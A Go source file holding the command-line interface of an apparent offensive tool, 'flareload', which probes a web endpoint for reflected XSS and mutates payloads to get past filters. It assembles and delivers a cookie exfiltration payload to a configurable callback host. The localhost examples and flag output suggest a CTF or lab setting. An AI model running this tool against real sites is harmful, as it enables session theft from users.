package cli

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"syscall"

	"github.com/Serdar715/flareload/internal/banner"
	"github.com/Serdar715/flareload/internal/config"
	"github.com/Serdar715/flareload/internal/payloads"
	"github.com/Serdar715/flareload/internal/report"
	"github.com/Serdar715/flareload/internal/scanner"

	"github.com/fatih/color"
	"github.com/spf13/cobra"
	"golang.org/x/term"
)

var (
	// Injection options
	parameter    string
	contextProbe string
	tag          string

	// Candidate lists
	events        []string
	object        string
	property      string
	objectGlobals []string

	// Payload options
	callbackScheme string
	callback       string

	// Output options
	outputFormat string
	outputFile   string
	verbose      bool
	silent       bool

	// Performance options
	delay int

	// mutate subcommand
	mutationGlobals []string
)

// Execute runs the flareload command line
func Execute() error {
	return newRootCmd().Execute()
}

func newRootCmd() *cobra.Command {
	defaults := config.DefaultConfig()
	width := configureOutput()

	rootCmd := &cobra.Command{
		Use:   "flareload [target_url]",
		Short: "Adaptive reflected XSS filter bypass",
		Long: banner.GetBanner(width) + `
FlareLoad - Adaptive Reflected XSS Filter Bypass

Probes a single endpoint for reflected XSS and, when the target strips
event handlers, identifiers or protocol tokens, searches an ordered
mutation space for equivalents that survive the filter. The resolved
pieces are assembled into a cookie exfiltration payload and delivered.
`,
		Example: `  # Basic run, payload goes into ?payload=
  flareload "http://127.0.0.1:8081/"

  # Different query parameter and handler order
  flareload "http://127.0.0.1:8081/search" -p q --events onfocus,onmouseover

  # Rate limited run with an HTML report
  flareload "http://127.0.0.1:8081/" --delay 500 -o report.html --format html

  # Print the mutation candidates for an identifier
  flareload mutate alert`,
		Args:          cobra.ExactArgs(1),
		SilenceErrors: true,
		RunE: func(cmd *cobra.Command, args []string) error {
			cmd.SilenceUsage = true
			return runBypass(cmd.Context(), args[0], width)
		},
	}

	// Injection flags
	rootCmd.Flags().StringVarP(&parameter, "param", "p", defaults.Parameter, "Query parameter the payload is placed in")
	rootCmd.Flags().StringVar(&contextProbe, "probe", defaults.ContextProbe, "Context probe string (must contain < and >)")
	rootCmd.Flags().StringVar(&tag, "tag", defaults.Tag, "Custom tag name carrying the event handler")

	// Candidate flags
	rootCmd.Flags().StringSliceVar(&events, "events", defaults.Events, "Event handlers to try, in order")
	rootCmd.Flags().StringVar(&object, "object", defaults.Object, "Object identifier to resolve")
	rootCmd.Flags().StringVar(&property, "property", defaults.Property, "Property name to resolve")
	rootCmd.Flags().StringSliceVar(&objectGlobals, "object-globals", defaults.ObjectGlobals, "Global aliases used to index the object, in order")

	// Payload flags
	rootCmd.Flags().StringVar(&callbackScheme, "scheme", defaults.CallbackScheme, "Scheme of the exfiltration URL")
	rootCmd.Flags().StringVar(&callback, "callback", defaults.Callback, "Exfiltration host and path, the stolen value is appended")

	// Output flags
	rootCmd.Flags().StringVar(&outputFormat, "format", defaults.OutputFormat, "Report format (json, html, markdown)")
	rootCmd.Flags().StringVarP(&outputFile, "output", "o", "", "Output file for report")
	rootCmd.Flags().BoolVarP(&verbose, "verbose", "v", false, "Trace every request URL and phase")
	rootCmd.Flags().BoolVar(&silent, "silent", false, "Print only the flag and the final payload")

	// Performance flags
	rootCmd.Flags().IntVar(&delay, "delay", 0, "Delay between requests in milliseconds (rate limiting)")

	rootCmd.AddCommand(newMutateCmd(defaults))
	return rootCmd
}

func newMutateCmd(defaults *config.BypassConfig) *cobra.Command {
	cmd := &cobra.Command{
		Use:   "mutate [token...]",
		Short: "Print the ordered mutation candidates for identifiers",
		Args:  cobra.MinimumNArgs(1),
		Run: func(cmd *cobra.Command, args []string) {
			mutator := payloads.NewMutator(mutationGlobals)
			out := cmd.OutOrStdout()
			for _, token := range args {
				for _, candidate := range mutator.Mutate(token) {
					fmt.Fprintln(out, candidate)
				}
			}
		},
	}
	cmd.Flags().StringSliceVar(&mutationGlobals, "globals", defaults.MutationGlobals, "Global aliases, in order")
	return cmd
}

// configureOutput disables colors when stdout is not a terminal and returns the
// terminal width, or 0 when unknown
func configureOutput() int {
	fd := int(os.Stdout.Fd())
	if os.Getenv("NO_COLOR") != "" || !term.IsTerminal(fd) {
		color.NoColor = true
	}
	if w, _, err := term.GetSize(fd); err == nil && w > 0 {
		return w
	}
	return 0
}

func buildConfig(target string) *config.BypassConfig {
	cfg := config.DefaultConfig()
	cfg.TargetURL = target
	cfg.Parameter = parameter
	cfg.ContextProbe = contextProbe
	cfg.Tag = tag
	cfg.Events = events
	cfg.Object = object
	cfg.Property = property
	cfg.ObjectGlobals = objectGlobals
	cfg.CallbackScheme = callbackScheme
	cfg.Callback = callback
	cfg.Delay = delay
	cfg.OutputFormat = outputFormat
	cfg.OutputFile = outputFile
	cfg.Verbose = verbose
	cfg.Silent = silent
	return cfg
}

func runBypass(ctx context.Context, target string, width int) error {
	cfg := buildConfig(target)
	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("invalid configuration: %w", err)
	}

	if ctx == nil {
		ctx = context.Background()
	}
	ctx, stop := signal.NotifyContext(ctx, os.Interrupt, syscall.SIGTERM)
	defer stop()
	// a second signal kills the process while a request is still blocked
	context.AfterFunc(ctx, stop)

	var progress scanner.ProgressReporter
	if cfg.Silent {
		progress = scanner.NewSilentReporter()
	} else {
		fmt.Println(banner.GetBanner(width))
		printConfigSummary(cfg, width)
		color.Cyan("\n[*] Starting bypass run on: %s\n", cfg.TargetURL)
		progress = scanner.NewConsoleReporter(cfg.Verbose)
	}

	var engine scanner.Engine = scanner.NewBypassEngine(cfg, scanner.WithReporter(progress))

	result, err := engine.Run(ctx, cfg.TargetURL)
	if err != nil {
		if errors.Is(err, context.Canceled) {
			color.Yellow("\n[!] Run interrupted by user")
		}
		var perr *scanner.PhaseError
		if !errors.As(err, &perr) {
			return fmt.Errorf("run failed: %w", err)
		}
		if !cfg.Silent {
			color.Red("\n[!] Aborted at %s: %v", perr.Phase, perr.Cause)
		}
	}

	if !cfg.Silent {
		printSummary(result, width)
	}

	if cfg.OutputFile != "" {
		if err := report.New(cfg.OutputFormat).Generate(result, cfg.OutputFile); err != nil {
			return fmt.Errorf("failed to generate report: %w", err)
		}
		if !cfg.Silent {
			color.Green("\n[✓] Report saved to: %s\n", cfg.OutputFile)
		}
	}

	return nil
}

// printConfigSummary prints the run configuration
func printConfigSummary(cfg *config.BypassConfig, width int) {
	color.Yellow("\n  RUN CONFIGURATION")
	color.Yellow("%s", banner.Separator(width))

	color.White("  Parameter:   %s", cfg.Parameter)
	color.White("  Tag:         %s", cfg.Tag)
	color.White("  Events:      %v", cfg.Events)
	color.White("  Target:      %s.%s", cfg.Object, cfg.Property)
	color.White("  Exfil:       %s://%s", cfg.CallbackScheme, cfg.Callback)

	if cfg.Delay > 0 {
		color.White("  Delay:       %dms (rate limiting)", cfg.Delay)
	}

	color.Yellow("%s", banner.Separator(width))
}

// printSummary prints the final run summary
func printSummary(result *config.ScanResult, width int) {
	color.Yellow("\n  RUN SUMMARY")
	color.Yellow("%s", banner.Separator(width))

	color.White("  Requests:    %d", result.Requests)
	color.White("  Duration:    %s", result.ScanDuration)

	if result.Context != "" {
		color.White("  Context:     %s", result.Context)
	}
	if result.WAFDetected != "" {
		color.Yellow("  WAF:         %s", result.WAFDetected)
	}

	if result.Vulnerable {
		color.Red("  Payload:     %s", result.Payload)
	} else {
		color.Green("  Payload:     none assembled")
	}

	if result.FlagFound {
		color.Red("  Flag:        %s", result.Flag)
	}

	if result.ErrorCount > 0 {
		color.Yellow("  Errors:      %d", result.ErrorCount)
	}

	color.Yellow("%s", banner.Separator(width))
}
